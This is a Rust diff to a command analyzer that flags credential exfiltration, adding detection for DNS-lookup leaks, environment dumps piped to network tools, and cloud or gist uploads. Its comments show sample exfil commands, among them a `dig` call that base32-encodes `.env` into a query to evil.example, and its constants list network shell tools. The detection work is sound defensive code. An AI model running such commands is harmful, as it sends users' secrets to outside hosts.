@@ -8,8 +8,8 @@
 use super::walk::{Stream, Walker};
 use super::words::Arg;
 use crate::TargetKind;
-use crate::analyze::paths::resolve_path;
-use crate::analyze::tools::is_credential_path;
+use crate::analyze::paths::resolve_expanded;
+use crate::analyze::tools::{is_credential_directory, is_credential_path};
 
 /// Programs that connect a raw socket to their stdin and stdout.
 const RAW_SOCKETS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "openssl"];
@@ -25,10 +25,33 @@ const STDIN_SENDERS: &[&str] = &[
 pub(super) fn sent_file(walker: &mut Walker<'_>, file: &Arg, program: &str) {
     walker.add_path(file, TargetKind::Read, program);
     if file.is_literal() && !file.text.is_empty() && file.text != "-" {
-        let path = resolve_path(&file.text, &walker.scope.context);
+        let path = resolve_expanded(&file.text, &walker.scope.context);
         report(walker, &path, program);
     }
 }
+
+/// A network program whose own words or redirections read a credential file:
+/// `curl -d "$(cat .env)" URL`, `dig $(cat .env | base32).evil.example`.
+pub(super) fn check_words(walker: &mut Walker<'_>, program: &str) {
+    if !STDIN_SENDERS.contains(&program) && !LOOKUPS.contains(&program) {
+        return;
+    }
+    let home = &walker.scope.context.home;
+    let credential = walker
+        .action
+        .targets
+        .get(walker.words_targets_from..)
+        .unwrap_or_default()
+        .iter()
+        .find(|target| target.kind == TargetKind::Read && holds_credentials(&target.path, home))
+        .map(|target| target.path.clone());
+    if let Some(path) = credential {
+        report(walker, &path, program);
+    }
+}
+
+/// Programs that send what they are given as a name to a DNS server.
+const LOOKUPS: &[&str] = &["dig", "nslookup", "host", "drill", "ping"];
 
 /// A network program whose stdin is a credential file (`nc host 80 < .env`).
 pub(super) fn check_stdin(walker: &mut Walker<'_>, program: &str, stdin: &Stream) {
@@ -87,6 +110,23 @@ pub(super) fn check_pipeline(walker: &mut Walker<'_>, stages: &[(usize, usize)])
         let targets_to = stages
             .get(index + 1)
             .map_or(walker.action.targets.len(), |&(to, _)| to);
+        let commands_to = stages
+            .get(index + 1)
+            .map_or(walker.action.commands.len(), |&(_, to)| to);
+        let dumps_environment = walker
+            .action
+            .commands
+            .get(commands_from..commands_to)
+            .unwrap_or_default()
+            .iter()
+            .any(|command| {
+                matches!(command.program.as_str(), "env" | "printenv") && command.args.is_empty()
+                    || command.program == "set" && command.args.is_empty()
+                    || command.program == "export" && command.args == ["-p"]
+            });
+        if dumps_environment && credential.is_none() {
+            credential = Some(ENVIRONMENT.to_owned());
+        }
         if credential.is_none() {
             credential = walker
                 .action
@@ -95,7 +135,7 @@ pub(super) fn check_pipeline(walker: &mut Walker<'_>, stages: &[(usize, usize)])
                 .unwrap_or_default()
                 .iter()
                 .find(|target| {
-                    target.kind == TargetKind::Read && is_credential_path(&target.path, &home)
+                    target.kind == TargetKind::Read && holds_credentials(&target.path, &home)
                 })
                 .map(|target| target.path.clone());
         }
@@ -128,8 +168,57 @@ pub(super) fn reverse_shell(walker: &mut Walker<'_>, how: &str) {
     );
 }
 
+/// Stands for the environment (`env | curl -d @- …`) where a file would be named.
+const ENVIRONMENT: &str = "the environment";
+
+/// Uploads by cloud and code-hosting command-line tools: `aws s3 cp FILE s3://…`,
+/// `gsutil cp FILE gs://…`, `gh gist create FILE`, `rclone copy FILE remote:`.
+pub(super) fn cloud_upload(walker: &mut Walker<'_>, program: &str, args: &[Arg]) {
+    let operands: Vec<&Arg> = args
+        .iter()
+        .filter(|arg| !arg.text.starts_with('-'))
+        .collect();
+    let texts: Vec<&str> = operands.iter().map(|arg| arg.text.as_str()).collect();
+    let remote = |text: &str| text.contains("://") || text.contains(':') && !text.starts_with('/');
+    let files: Vec<&Arg> = match (program, texts.as_slice()) {
+        ("aws", ["s3", "cp" | "mv" | "sync", ..]) | ("gsutil", ["cp" | "mv" | "rsync", ..]) => {
+            let skip = if program == "aws" { 2 } else { 1 };
+            match operands.get(skip..) {
+                Some([source, destination])
+                    if remote(&destination.text) && !remote(&source.text) =>
+                {
+                    vec![*source]
+                }
+                _ => Vec::new(),
+            }
+        }
+        ("gh", ["gist", "create", ..]) => operands.get(2..).unwrap_or_default().to_vec(),
+        ("rclone", ["copy" | "copyto" | "move" | "sync", ..]) => match operands.get(1..) {
+            Some([source, destination]) if remote(&destination.text) => vec![*source],
+            _ => Vec::new(),
+        },
+        _ => Vec::new(),
+    };
+    for file in files {
+        sent_file(walker, file, program);
+    }
+}
+
+/// A credential file, or a directory of them sent as a whole (`rsync ~/.ssh/ host:`).
+fn holds_credentials(path: &str, home: &str) -> bool {
+    is_credential_path(path, home) || is_credential_directory(path, home)
+}
+
 fn report(walker: &mut Walker<'_>, path: &str, program: &str) {
-    if is_credential_path(path, &walker.scope.context.home) {
+    if path == ENVIRONMENT {
+        walker.action.add_finding(
+            "exfil.environment-upload",
+            None,
+            format!("`{program}` sends the environment's variables over the network"),
+        );
+        return;
+    }
+    if holds_credentials(path, &walker.scope.context.home) {
         walker.action.add_finding(
             "exfil.credential-upload",
             Some(path),
